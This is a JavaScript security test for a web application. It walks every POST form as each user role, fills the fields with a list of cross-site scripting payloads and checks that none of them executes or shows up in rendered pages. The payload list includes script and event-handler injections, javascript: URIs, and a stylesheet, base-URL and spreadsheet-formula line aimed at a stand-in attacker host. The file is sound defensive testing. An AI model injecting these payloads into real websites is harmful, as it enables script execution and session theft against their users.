// SPDX-License-Identifier: GPL-3.0-or-later
// A hostile hand types into every field that any role finds. Then every page is opened, by every role: no script runs, the policy has
// nothing to report, and no form, frame or address of the attacker's stands in a page.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import { site, visitor } from "./lib.mjs";
import { routesOf, walkAs } from "./routes.mjs";

// Each calls pwn(), or names a host of the attacker's, in another way.
const HTML = [
  `<script>pwn(1)</script>`,
  `"><script>pwn(2)</script>`,
  `'><img src=x onerror=pwn(3)>`,
  `<svg/onload=pwn(4)>`,
  `javascript:pwn(5)`,
  `data:text/html,<script>pwn(6)</script>`,
  `</textarea></title></style><script>pwn(7)</script>`,
  `<iframe srcdoc="<script>parent.pwn(8)</script>"></iframe>`,
  `<a href="java&#10;script:pwn(9)">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn(10)&gt;">`,
  `<img/src="x"/onerror=pwn(11)>`,
  `<form action=javascript:pwn(12)><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:pwn(13)">`,
  `<base href=//attacker.example/>`,
  `<style>@import'//attacker.example/a.css'</style>`,
  `<link rel=stylesheet href=//attacker.example/a.css>`,
  `+ADw-script+AD4-pwn(14)+ADw-/script+AD4-`,
  `%3Cscript%3Epwn(15)%3C/script%3E`,
  `&lt;script&gt;pwn(16)&lt;/script&gt;`,
  `]]><script>pwn(17)</script>`,
  `<!--><script>pwn(18)//-->`,
  `';pwn(19);//\\';pwn(19);//";pwn(19);//`,
  "`${pwn(20)}`{{pwn(20)}}<%=pwn(20)%>#{pwn(20)}",
  `<b hx-get=/ hx-trigger=load hx-on:htmx:load=pwn(21) data-hx-on:load=pwn(21)>x</b>`,
  `<details open ontoggle=pwn(22)><summary>x</summary></details>`,
  `<input autofocus onfocus=pwn(23)>`,
  `<object data=javascript:pwn(24)></object><embed src=javascript:pwn(24)>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn(25)>#x"/></svg>`,
  `<svg><animate onbegin=pwn(26) attributeName=x></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=pwn(27)>">`,
  `<template><script>pwn(28)</script></template><slot onslotchange=pwn(28)>`,
  `=HYPERLINK("//attacker.example";pwn(29))`,
  `%s%n%x%d pwn(30) \u202epwn(30)\u2066`,
];

// What would end the walk, or needs more than a hostile text: signing out and in, closing, withdrawing, moving on.
const spared = /\/(dang-xuat|dang-nhap|dong|mat-khau|ket-thuc|xoa|rut|bo|thu-hoi|huy|thoi|ngon-ngu|zoom|vai-tro|moi|sap-nhap\/ghi)$/;

// What has to be of a certain form to be taken; "#" becomes a number.
const plausible = (path) => [
  ["^deadline\\.\\d+\\.words$", "chậm nhất ngày 25/4/2025"],
  ["^(planned_on|held_on)$", "10/4/2025"],
  ["_minute$", "8:00"],
  ["email|^address$", "a#@b.example"],
  ["^(owner|unit)$", "407"],
  ["phone", "0912345678"],
  ["^code$|slug", "ma-#"],
  ...(path.startsWith("/lam-viec/tai-khoan") ? [["^name$", "tai-khoan-#"]] : []),
  ["^(last|to|until|parent)(_on)?$", ""],
  ["(^|[._])(on|from|day|since)$|_on$", "15/4/2025"],
  ["count|minute|days|vnd|delegates|position", "3"],
];

// In the page: fills its nth form and sends it past the browser's own checks, by its nth named button (-1: by none). `known` says
// which fields get what, the others get `texts`, and chosen are the first choices.
function fillAndSend({ n, texts, known, button }) {
  const form = document.querySelectorAll("form[method=post]")[n];
  const named = button < 0 ? undefined : [...form.querySelectorAll("button[type=submit][name]")][button];
  let i = 0;

  for (const field of form.elements) {
    if (!field.name || field.disabled || /^(hidden|submit|button|file)$/.test(field.type)) continue;
    const fit = known.find(([name]) => new RegExp(name).test(field.name)) ?? (known.length && field.inputMode === "numeric" ? ["", "3"] : undefined);

    if (field.tagName === "SELECT") {
      if (!field.value) field.selectedIndex = [...field.options].findIndex((option) => option.value && !option.disabled);
    } else if (field.type === "checkbox") {
      field.checked = true;
    } else if (field.type === "radio") {
      field.checked ||= ![...form.elements].some((other) => other.name === field.name && other.checked);
    } else {
      if (fit && field.value) continue;
      field.value = fit ? fit[1].replace("#", Math.floor(performance.now() * 1000)) : texts[i++ % texts.length];
      if (field.maxLength > 0) field.value = field.value.slice(0, field.maxLength);
    }
  }
  if (named) {
    const chosen = document.createElement("input");

    Object.assign(chosen, { type: "hidden", name: named.name, value: named.value });
    form.append(chosen);
  }
  HTMLFormElement.prototype.submit.call(form);
}

const formsOf = (tab) =>
  tab.evaluate(() =>
    [...document.querySelectorAll("form[method=post]")].map((form, n) => ({
      n,
      action: new URL(form.action).pathname,
      names: [...form.elements].filter((field) => field.name && !/^(hidden|submit|button)$/.test(field.type)).map((field) => field.name).join(" "),
    })),
  );

// Whatever ran, or was kept from running.
async function listen(tab, caught) {
  await tab.context().exposeFunction("pwn", (n) => caught.push(`pwn(${n}) ran on ${tab.url()}`)).catch(() => {});
  tab.on("dialog", (dialog) => {
    caught.push(`a dialog on ${tab.url()}: ${dialog.message()}`);
    return dialog.dismiss();
  });
  tab.on("request", (request) => /attacker\.example/.test(new URL(request.url()).host) && caught.push(`${tab.url()} asked for ${request.url()}`));
  await tab.context().exposeFunction("violated", (text) => caught.push(text)).catch(() => {});
  await tab.addInitScript(() => document.addEventListener("securitypolicyviolation", (e) => window.violated(`${location.pathname}: ${e.violatedDirective} kept ${e.blockedURI} ${e.sample}`)));
}

// What a page must not have, whether it ran or not.
const intruders = (tab) =>
  tab.evaluate(() =>
    [...document.querySelectorAll("script:not([src]):not([type='application/ld+json']), iframe, object, embed, base, meta[http-equiv=refresh], [hx-on\\:htmx\\:load], [onerror], [onload], [onfocus], [ontoggle], a[href^='javascript' i], a[href^='data:' i], form[action^='javascript' i], link[href*='attacker'], img[src='x'], img[src='1']")]
      .map((one) => one.outerHTML.slice(0, 200)));

// Types into each form that nobody typed into yet: thrice, since what one refuses is shown again and what is taken is shown elsewhere.
function attacker({ routes, done }) {
  return async ({ tab }, complain) => {
    const { pathname, search } = new URL(tab.url());

    for (const { n, action, names } of await formsOf(tab)) {
      const key = `${routes.findPost(action)} ${names}`;

      if (spared.test(action) || !names || done.has(key)) continue;
      done.add(key);
      for (const [round, known, button] of [[0, [], -1], [1, plausible(pathname), 0], [2, plausible(pathname), -1]]) {
        const from = (done.size * 7 + round * 11) % HTML.length;
        const texts = [...HTML.slice(from), ...HTML.slice(0, from)];

        if (round > 0) await tab.goto(pathname + search);
        if ((await formsOf(tab)).length <= n) break;
        await Promise.all([tab.waitForNavigation(), tab.evaluate(fillAndSend, { n, texts, known, button })]).catch((error) => complain(`${action}: ${error.message.split("\n")[0]}`));
        for (const text of await intruders(tab)) complain(`${action} answers with ${text}`);
        if (round > 0) await confirm(tab);
      }
      await tab.goto(pathname + search);
    }
  };
}

// Where it is asked whether to do it all the same.
async function confirm(tab) {
  if ((await tab.locator("main form [name=confirmed]").count()) === 0) return;
  await Promise.all([tab.waitForNavigation(), tab.evaluate(() => {
    const box = document.querySelector("main form [name=confirmed]");

    box.checked = true;
    HTMLFormElement.prototype.submit.call(box.form);
  })]);
}

const storedIn = (db) => {
  const columns = execFileSync("sqlite3", [db, "SELECT m.name || '.' || p.name FROM sqlite_master m JOIN pragma_table_info(m.name) p WHERE m.type = 'table' AND m.name NOT LIKE 'search%' AND m.name NOT IN ('audit', 'form_draft') AND p.type LIKE '%TEXT%'"], { encoding: "utf8" }).trim().split("\n");

  return columns.filter((column) => {
    const [table, name] = column.split(".");

    return execFileSync("sqlite3", [db, `SELECT EXISTS (SELECT 1 FROM ${table} WHERE ${name} LIKE '%pwn(%' OR ${name} LIKE '%attacker.example%')`], { encoding: "utf8" }).trim() === "1";
  });
};

// Where at least it must have come to stand, or nothing was attacked.
const STORED = [
  "account.full_name", "campaign.title", "conference.place", "document.title", "holiday.name", "milestone.title", "report.done", "seat.title", "task_part.note", "unit.name",
];

const ROLES = ["thuong-truc", "can-bo-nghi-son", "truong-ban", "thanh-vien-1", "truong-ban-bien-tap", "quan-tri", null];

test("nothing that can be typed runs as a script, in any field, for any role", { timeout: 900000 }, async (t) => {
  const where = await site("attacks", "example", { on: "2025-04-15" }), routes = routesOf(where), done = new Set(), caught = [];

  for (const account of ROLES)
    await t.test(`typed as ${account ?? "a reader"}`, async () => {
      const options = { routes, listen: (tab) => listen(tab, caught), isHostile: true };

      await walkAs(where, account, { ...options, look: attacker({ routes, done }) });
      assert.deepEqual(caught, []);
    });
  await t.test("it is stored as it was typed", () => {
    const columns = storedIn(where.db);

    assert.deepEqual(STORED.filter((wanted) => !columns.includes(wanted)), [], columns.join(" "));
  });
  for (const account of ROLES)
    await t.test(`opened as ${account ?? "a reader"}`, async () => {
      await walkAs(where, account, { routes, listen: (tab) => listen(tab, caught), isHostile: true, look: async ({ tab }, complain) => {
        for (const text of await intruders(tab)) complain(`shows ${text}`);
      } });
      assert.deepEqual(caught, []);
    });
  await where.stop();
});
